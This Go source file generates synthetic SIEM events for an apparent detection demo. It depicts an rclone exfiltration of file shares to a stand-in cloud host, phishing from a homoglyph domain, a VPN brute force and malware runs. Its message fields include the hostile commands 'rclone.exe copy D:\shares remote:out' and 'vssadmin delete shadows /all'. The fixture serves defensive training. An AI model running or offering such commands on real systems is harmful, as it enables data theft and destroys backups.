package demo

import (
	"fmt"
	"time"
)

// event is one line of the SIEM.
type event struct {
	ID      string    `json:"id"`
	Time    time.Time `json:"time"`
	Action  string    `json:"action"`
	Outcome string    `json:"outcome"`
	Host    string    `json:"host"`
	User    string    `json:"user"`
	Src     string    `json:"src_ip"`
	Dst     string    `json:"dst_ip"`
	Domain  string    `json:"domain"`
	Process string    `json:"process"`
	SHA256  string    `json:"sha256"`
	Message string    `json:"message"`
}

//nolint:gochecknoglobals // a constant table
var fields = []string{"action", "outcome", "host", "user", "src_ip", "dst_ip", "domain", "process", "sha256", "message"}

func (e event) values() map[string]string {
	return map[string]string{
		"action": e.Action, "outcome": e.Outcome, "host": e.Host, "user": e.User, "src_ip": e.Src, "dst_ip": e.Dst,
		"domain": e.Domain, "process": e.Process, "sha256": e.SHA256, "message": e.Message,
	}
}

// events gives what happened around the world's first moment, oldest first: the
// same lines each time they are asked for.
func events(base time.Time) []event {
	var es []event
	add := func(before time.Duration, e event) {
		e.ID, e.Time = fmt.Sprintf("ev-%05d", len(es)+1), base.Add(-before)
		es = append(es, e)
	}
	for day := 6; day >= 1; day-- {
		at := time.Duration(day) * 24 * time.Hour
		add(at, event{Action: "login", Outcome: "success", Host: "FIN-LT-0231", User: "m.keller", Src: "10.20.2.41", Message: "interactive log-in"})
		add(at-time.Hour, event{Action: "login", Outcome: "success", Host: "ENG-WS-0417", User: "j.osei", Src: "10.20.4.27", Message: "interactive log-in"})
		add(at-2*time.Hour, event{Action: "backup", Outcome: "success", Host: "SRV-FILE-02", User: "svc_backup", Dst: "10.20.5.12", Message: "nightly backup finished"})
	}
	add(190*time.Minute, event{
		Action: "process_start", Outcome: "success", Host: "SRV-FILE-02", User: "svc_backup", Process: "rclone.exe", SHA256: shaRclone,
		Message: "rclone.exe copy D:\\shares remote:out --transfers 32",
	})
	add(170*time.Minute, event{Action: "connection", Outcome: "success", Host: "SRV-FILE-02", User: "svc_backup", Process: "rclone.exe", Dst: "198.51.100.23", Domain: "storage.example-cloud.test", Message: "41 GB sent"})
	for i, to := range []string{"m.keller", "a.soto", "j.osei", "r.lindqvist"} {
		add(time.Duration(38-i)*time.Minute, event{Action: "mail_received", Outcome: "success", User: to, Domain: "exаmple-invoices.test", Message: "from " + phishSender + ": Invoice 4471 is overdue"})
	}
	add(31*time.Minute, event{Action: "web_request", Outcome: "success", Host: "FIN-LT-0231", User: "m.keller", Dst: "198.51.100.61", Domain: "login.exаmple-invoices.test", Message: "GET /a/4471/pay"})
	for i := range 24 {
		outcome := "failure"
		if i == 23 {
			outcome = "success"
		}
		add(time.Duration(29)*time.Minute-time.Duration(i)*20*time.Second, event{
			Action: "login", Outcome: outcome, Host: "SRV-WEB-03", User: "svc_backup", Src: bruteIP, Message: "VPN log-in with a password",
		})
	}
	for _, sick := range []struct {
		host, user string
		before     time.Duration
	}{{"FIN-LT-0231", "m.keller", 6 * time.Minute}, {"HR-LT-0112", "a.soto", 4 * time.Minute}, {"ENG-WS-0417", "j.osei", 3 * time.Minute}} {
		add(sick.before, event{Action: "process_start", Outcome: "success", Host: sick.host, User: sick.user, Process: "update-helper.exe", SHA256: shaMalware, Message: "update-helper.exe /quiet & vssadmin delete shadows /all"})
		add(sick.before-time.Minute, event{Action: "connection", Outcome: "success", Host: sick.host, User: sick.user, Process: "update-helper.exe", Dst: "198.51.100.61", Domain: "cdn.exаmple-invoices.test", Message: "beacon every 60 s"})
	}
	return es
}
